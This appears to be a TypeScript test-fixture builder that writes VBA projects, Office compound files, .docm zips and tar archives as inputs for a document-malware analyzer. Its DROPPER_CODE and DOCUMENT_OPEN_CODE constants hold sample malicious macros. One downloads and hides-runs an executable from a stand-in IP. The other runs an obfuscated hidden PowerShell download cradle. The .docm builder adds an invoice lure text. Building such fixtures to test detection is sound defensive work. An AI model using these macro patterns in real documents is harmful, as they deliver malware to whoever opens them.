// Builders for the document test inputs: VBA projects written per [MS-OVBA] (dir stream
// records, module streams with a p-code area before the compressed source), compound files
// written with the `cfb` package, zips written with zip.js, PDFs written by hand or pdf-lib.
import * as CFB from 'cfb';
import { TextReader, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { compressOvba } from '../../../src/analyzers/documents/ovba-compression';

export interface ModuleSpec {
  name: string;
  /** Source without the Attribute VB_Name line, which is added. */
  code: string;
  type?: 'procedural' | 'document';
}

const u16 = (n: number): Buffer => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
};
const u32 = (n: number): Buffer => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};
const rec = (id: number, data: Buffer = Buffer.alloc(0)): Buffer => Buffer.concat([u16(id), u32(data.length), data]);
const mbcs = (s: string): Buffer => Buffer.from(s, 'latin1');
const utf16 = (s: string): Buffer => Buffer.from(s, 'utf16le');

export function moduleSource(m: ModuleSpec): string {
  const attrs =
    m.type === 'document'
      ? [
          `Attribute VB_Name = "${m.name}"`,
          'Attribute VB_Base = "1Normal.ThisDocument"',
          'Attribute VB_GlobalNameSpace = False',
          'Attribute VB_Creatable = False',
          'Attribute VB_PredeclaredId = True',
          'Attribute VB_Exposed = True',
        ]
      : [`Attribute VB_Name = "${m.name}"`];
  return [...attrs, ...m.code.split('\n')].join('\r\n') + '\r\n';
}

/** The decompressed dir stream ([MS-OVBA] 2.3.4.2) for modules stored after `textOffset` bytes of p-code. */
export function dirStream(modules: ModuleSpec[], textOffset: number, codePage = 1252, projectName = 'Project'): Buffer {
  const parts: Buffer[] = [
    rec(0x0001, u32(1)), // SysKind: 32-bit Windows
    rec(0x004a, u32(0x61)), // CompatVersion
    rec(0x0002, u32(0x409)),
    rec(0x0014, u32(0x409)),
    rec(0x0003, u16(codePage)),
    rec(0x0004, mbcs(projectName)),
    rec(0x0005),
    rec(0x0040), // doc string + unicode
    rec(0x0006),
    rec(0x003d), // help file paths
    rec(0x0007, u32(0)),
    rec(0x0008, u32(0)),
    Buffer.concat([u16(0x0009), u32(4), u32(1474660354), u16(6)]), // PROJECTVERSION: Size says 4, 6 bytes follow
    rec(0x000c),
    rec(0x003c), // constants
    // One registered reference (stdole), as Office writes it.
    rec(0x0016, mbcs('stdole')),
    rec(0x003e, utf16('stdole')),
    (() => {
      const libid = mbcs('*\\G{00020430-0000-0000-C000-000000000046}#2.0#0#C:\\Windows\\System32\\stdole2.tlb#OLE Automation');
      return rec(0x000d, Buffer.concat([u32(libid.length), libid, u32(0), u16(0)]));
    })(),
    rec(0x000f, u16(modules.length)),
    rec(0x0013, u16(0xffff)),
  ];
  for (const m of modules) {
    parts.push(
      rec(0x0019, mbcs(m.name)),
      rec(0x0047, utf16(m.name)),
      rec(0x001a, mbcs(m.name)),
      rec(0x0032, utf16(m.name)),
      rec(0x001c),
      rec(0x0048),
      rec(0x0031, u32(textOffset)),
      rec(0x001e, u32(0)),
      rec(0x002c, u16(0xffff)),
      rec(m.type === 'document' ? 0x0022 : 0x0021),
      rec(0x002b),
    );
  }
  parts.push(rec(0x0010));
  return Buffer.concat(parts);
}

/** Streams of a VBA project storage, keyed by path relative to the storage holding `VBA`. */
export function vbaProjectStreams(
  modules: ModuleSpec[],
  opts: { pcodeBytes?: number; codePage?: number } = {},
): Record<string, Uint8Array> {
  const textOffset = opts.pcodeBytes ?? 37;
  // Stand-in for the p-code cache: bytes the reader must skip (MODULEOFFSET), made to look like junk.
  const pcode = Buffer.alloc(textOffset, 0xcc);
  const streams: Record<string, Uint8Array> = {
    'VBA/dir': compressOvba(dirStream(modules, textOffset, opts.codePage)),
    'VBA/_VBA_PROJECT': Uint8Array.from([0xcc, 0x61, 0xff, 0xff, 0x00, 0x00, 0x00]),
    PROJECT: mbcs(
      [
        'ID="{5A1D6C2B-1F1C-4B5E-9E3B-0C9A4E1D2F10}"',
        ...modules.map((m) => (m.type === 'document' ? `Document=${m.name}/&H00000000` : `Module=${m.name}`)),
        'Name="Project"',
        'HelpContextID="0"',
        'VersionCompatible32="393222000"',
        '',
        '[Host Extender Info]',
        '&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000',
        '',
      ].join('\r\n'),
    ),
    PROJECTwm: Buffer.concat([
      ...modules.flatMap((m) => [mbcs(m.name), Buffer.from([0]), utf16(m.name), Buffer.from([0, 0])]),
      Buffer.from([0, 0]),
    ]),
  };
  for (const m of modules) streams[`VBA/${m.name}`] = Buffer.concat([pcode, compressOvba(mbcs(moduleSource(m)))]);
  return streams;
}

/** A compound file holding the given streams (paths '/'-separated, storages created as needed). */
export function buildCfb(streams: Record<string, Uint8Array>): Uint8Array {
  const doc = CFB.utils.cfb_new();
  for (const [path, data] of Object.entries(streams)) CFB.utils.cfb_add(doc, `/${path}`, Buffer.from(data));
  return Uint8Array.from(CFB.write(doc, { type: 'buffer' }) as Buffer);
}

const prefix = (storage: string, streams: Record<string, Uint8Array>): Record<string, Uint8Array> =>
  Object.fromEntries(Object.entries(streams).map(([k, v]) => [`${storage}/${k}`, v]));

/** A Word 97-2003 .doc layout: macros under Macros/ (the WordDocument stream is a placeholder). */
export function buildMacroDoc(modules: ModuleSpec[], opts: { pcodeBytes?: number; extra?: Record<string, Uint8Array> } = {}): Uint8Array {
  return buildCfb({
    WordDocument: Buffer.alloc(4096, 0x20),
    '1Table': Buffer.alloc(512),
    ...prefix('Macros', vbaProjectStreams(modules, opts)),
    ...(opts.extra ?? {}),
  });
}

/** An Excel 97-2003 .xls layout: macros under _VBA_PROJECT_CUR/, an optional BIFF8 Workbook stream. */
export function buildMacroXls(modules: ModuleSpec[], workbook: Uint8Array = Buffer.alloc(4096)): Uint8Array {
  return buildCfb({ Workbook: workbook, ...prefix('_VBA_PROJECT_CUR', vbaProjectStreams(modules)) });
}

/** vbaProject.bin as found inside .docm/.xlsm: the VBA storage at the root. */
export function buildVbaProjectBin(modules: ModuleSpec[]): Uint8Array {
  return buildCfb(vbaProjectStreams(modules));
}

/** BIFF8 Workbook stream with BOF, the given BoundSheet8 records and EOF. */
export function biffWorkbook(sheets: { name: string; type: 0 | 1; state: 0 | 1 | 2 }[]): Uint8Array {
  const record = (type: number, data: Buffer): Buffer => Buffer.concat([u16(type), u16(data.length), data]);
  const parts = [record(0x0809, Buffer.concat([u16(0x0600), u16(0x0005), Buffer.alloc(12)]))];
  for (const s of sheets)
    parts.push(record(0x0085, Buffer.concat([u32(0), Buffer.from([s.state, s.type, s.name.length, 0]), mbcs(s.name)])));
  parts.push(record(0x000a, Buffer.alloc(0)));
  return Buffer.concat(parts);
}

export interface ZipItem {
  name: string;
  data: Uint8Array | string;
  password?: string;
  zipCrypto?: boolean;
  level?: number;
}

const FIXED_DATE = new Date(Date.UTC(2024, 0, 2, 3, 4, 6));

export async function buildZip(items: ZipItem[], comment?: string): Promise<Uint8Array> {
  const writer = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false, lastModDate: FIXED_DATE });
  for (const item of items) {
    const reader =
      typeof item.data === 'string'
        ? new TextReader(item.data)
        : new Uint8ArrayReader(new Uint8Array(item.data.buffer, item.data.byteOffset, item.data.byteLength));
    await writer.add(item.name, reader, { password: item.password, zipCrypto: item.zipCrypto, level: item.level, lastModDate: FIXED_DATE });
  }
  return writer.close(comment ? new TextEncoder().encode(comment) : undefined);
}

/** A minimal .docm: content types, package and document relationships, and word/vbaProject.bin; extra parts replace same-named ones. */
export async function buildDocm(vbaProjectBin: Uint8Array | undefined, extraParts: ZipItem[] = []): Promise<Uint8Array> {
  const items: ZipItem[] = [
    {
      name: '[Content_Types].xml',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    },
    {
      name: '_rels/.rels',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    },
    {
      name: 'word/document.xml',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content to view this invoice.</w:t></w:r></w:p></w:body></w:document>',
    },
    {
      name: 'word/_rels/document.xml.rels',
      data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
    },
  ];
  if (vbaProjectBin) items.push({ name: 'word/vbaProject.bin', data: vbaProjectBin });
  const replaced = new Set(extraParts.map((p) => p.name));
  return buildZip([...items.filter((i) => !replaced.has(i.name)), ...extraParts]);
}

export const DROPPER_CODE = [
  'Sub AutoOpen()',
  '    Dim url As String, path As String',
  '    url = "http://198.51.100.7/payload.exe"',
  '    path = Environ("TEMP") & "\\update.exe"',
  '    URLDownloadToFile 0, url, path, 0, 0',
  '    Shell path, vbHide',
  'End Sub',
  'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal pCaller As LongPtr, ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long',
].join('\n');

export const DOCUMENT_OPEN_CODE = [
  'Private Sub Document_Open()',
  '    Dim s As String',
  '    s = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108)',
  '    CreateObject("WScript.Shell").Run s & " -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')", 0',
  'End Sub',
].join('\n');

export const BENIGN_CODE = [
  'Sub FormatTable()',
  "    ' Applies the house style to the first table",
  '    ActiveDocument.Tables(1).Style = "Grid Table 4"',
  'End Sub',
].join('\n');

/** Edit a version-3 (512-byte sector) compound file written by `cfb` to make it malformed. */
export class CfbPatcher {
  readonly buf: Buffer;
  constructor(bytes: Uint8Array) {
    this.buf = Buffer.from(bytes);
  }
  private fatSlot(sector: number): number {
    const fatSector = this.buf.readInt32LE(76 + 4 * Math.floor(sector / 128));
    return (fatSector + 1) * 512 + (sector % 128) * 4;
  }
  getFat(sector: number): number {
    return this.buf.readInt32LE(this.fatSlot(sector));
  }
  setFat(sector: number, next: number): this {
    this.buf.writeInt32LE(next, this.fatSlot(sector));
    return this;
  }
  private dirChain(): number[] {
    const chain: number[] = [];
    for (let s = this.buf.readInt32LE(48); s >= 0 && chain.length < 64; s = this.getFat(s)) chain.push(s);
    return chain;
  }
  entryOffset(id: number): number {
    return (this.dirChain()[Math.floor(id / 4)] + 1) * 512 + (id % 4) * 128;
  }
  entryId(name: string): number {
    for (let id = 0; id < this.dirChain().length * 4; id++) {
      const o = this.entryOffset(id);
      const len = this.buf.readUInt16LE(o + 64);
      if (len > 1 && this.buf.subarray(o, o + len - 2).toString('utf16le') === name) return id;
    }
    throw new Error(`no entry ${name}`);
  }
  /** Start sector of an entry (a FAT sector for streams of 4096 bytes and more, else a mini sector). */
  start(name: string): number {
    return this.buf.readInt32LE(this.entryOffset(this.entryId(name)) + 116);
  }
  setStart(name: string, sector: number): this {
    this.buf.writeInt32LE(sector, this.entryOffset(this.entryId(name)) + 116);
    return this;
  }
  setLinks(name: string, links: { left?: number; right?: number; child?: number }): this {
    const o = this.entryOffset(this.entryId(name));
    if (links.left !== undefined) this.buf.writeInt32LE(links.left, o + 68);
    if (links.right !== undefined) this.buf.writeInt32LE(links.right, o + 72);
    if (links.child !== undefined) this.buf.writeInt32LE(links.child, o + 76);
    return this;
  }
  header(offset: number, value: number): this {
    this.buf.writeInt32LE(value, offset);
    return this;
  }
  bytes(): Uint8Array {
    return Uint8Array.from(this.buf);
  }
}

/** A ustar archive of regular files (checksums computed, so `tar -t` accepts it). */
export function buildTar(files: { name: string; data: Uint8Array | string }[]): Uint8Array {
  const blocks: Buffer[] = [];
  for (const f of files) {
    const data = typeof f.data === 'string' ? Buffer.from(f.data) : Buffer.from(f.data);
    const h = Buffer.alloc(512);
    h.write(f.name, 0, 100, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(data.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('14533022000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\0', 257);
    h.write('00', 263);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(h, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Uint8Array.from(Buffer.concat(blocks));
}
